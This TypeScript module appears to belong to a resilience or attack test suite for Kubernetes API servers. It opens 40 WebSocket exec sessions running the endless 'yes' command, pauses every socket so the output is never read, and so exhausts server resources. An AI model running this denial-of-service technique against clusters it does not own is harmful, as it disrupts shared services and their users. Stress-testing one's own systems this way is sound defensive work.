import { type Attack, aborted } from "../attack.ts";
import { runPod, webSocketTo } from "../web_socket.ts";

const sessionsMax = 40;

/** Commands that write without end, for clients that do not read. */
export const execsThatNobodyReads: Attack = {
  name: `${sessionsMax} endless commands that nobody reads`,
  who: "admin",
  async run({ target, signal }) {
    const pod = await runPod(target, signal);
    const path = `${pod}/exec?command=yes&stdout=1`;
    const sockets = Array.from({ length: sessionsMax }, () =>
      webSocketTo(target, { path, protocol: "v5.channel.k8s.io" }, (socket) => void socket.pause()),
    );
    await aborted(signal);
    for (const socket of sockets) socket.destroy();
  },
};
